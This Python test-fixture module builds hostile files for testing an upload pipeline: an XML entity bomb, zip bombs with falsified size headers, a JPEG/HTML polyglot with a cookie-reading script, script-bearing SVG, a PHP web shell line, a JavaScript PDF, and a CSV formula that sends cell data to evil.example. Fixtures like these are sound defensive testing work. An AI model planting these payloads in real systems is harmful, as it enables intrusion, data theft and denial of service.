"""Hostile files built in the test run: nothing is downloaded, every byte is visible here."""

import io
import zipfile

import openpyxl
from PIL import Image

from tests.samples import pdfs

LAUGHS = (
    '<!DOCTYPE worksheet [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10)
    )
    + "]>"
)


def xlsx_bytes(rows: list[list] | None = None) -> bytes:
    workbook = openpyxl.Workbook()
    for row in rows or [["街道", "项目名称"], ["城关街道", "阳光花园"]]:
        workbook.active.append(row)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def rewrite_xlsx(original: bytes, replace: dict[str, bytes], extra: dict[str, bytes] | None = None) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(original))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            target.writestr(name, replace.get(name, source.read(name)))
        for name, data in (extra or {}).items():
            target.writestr(name, data)
    return out.getvalue()


def billion_laughs_xlsx() -> bytes:
    """A workbook whose sheet XML defines nested entities that expand to 10^9 'lol's."""
    sheet = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        + LAUGHS
        + '<worksheet xmlns="http://schemas.openxmlformats.org/'
        'spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c>'
        "</row></sheetData></worksheet>"
    )
    return rewrite_xlsx(xlsx_bytes(), {"xl/worksheets/sheet1.xml": sheet.encode()})


def zip_bomb_xlsx(inflated: int = 20 * 1024 * 1024) -> bytes:
    """A valid workbook carrying one entry of zeros that compresses about 1,000 to 1."""
    return rewrite_xlsx(xlsx_bytes(), {}, {"xl/media/padding.bin": b"\0" * inflated})


def lying_zip_xlsx() -> bytes:
    """A zip bomb whose headers declare a tiny size for an entry that inflates to 20 MB."""
    data = bytearray(zip_bomb_xlsx())
    info = next(
        i for i in zipfile.ZipFile(io.BytesIO(bytes(data))).infolist() if i.filename.endswith("padding.bin")
    )
    real = info.file_size.to_bytes(4, "little")
    fake = (1000).to_bytes(4, "little")
    # The uncompressed size sits in the local header and in the central directory: patch both.
    return bytes(data).replace(real, fake)


def many_entries_zip(count: int) -> bytes:
    return rewrite_xlsx(xlsx_bytes(), {}, {f"xl/extra/{i}.xml": b"<a/>" for i in range(count)})


def jpeg_bytes(size=(32, 24), color=(200, 30, 30)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, color).save(out, "JPEG")
    return out.getvalue()


def png_bytes() -> bytes:
    out = io.BytesIO()
    Image.new("RGBA", (16, 16), (0, 0, 255, 128)).save(out, "PNG")
    return out.getvalue()


def jpeg_html_polyglot() -> bytes:
    """A JPEG that decodes as an image and also carries a page in a comment segment."""
    jpeg = jpeg_bytes()
    payload = b"<html><body><script>alert(document.cookie)</script></body></html>"
    comment = b"\xff\xfe" + (len(payload) + 2).to_bytes(2, "big") + payload
    return jpeg[:2] + comment + jpeg[2:]


HTML_AS_JPG = b"<!DOCTYPE html><html><body><script>fetch('/api/')</script></body></html>"
SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
)
PHP = b"<?php system($_GET['c']); ?>"
PDF_OK = pdfs.PLAIN
PDF_WITH_JS = pdfs.HOSTILE["openaction javascript"]
CSV_FORMULA = '工单编号,诉求内容\nA1,=HYPERLINK("http://evil.example/?"&A1,"点击")\n'.encode()
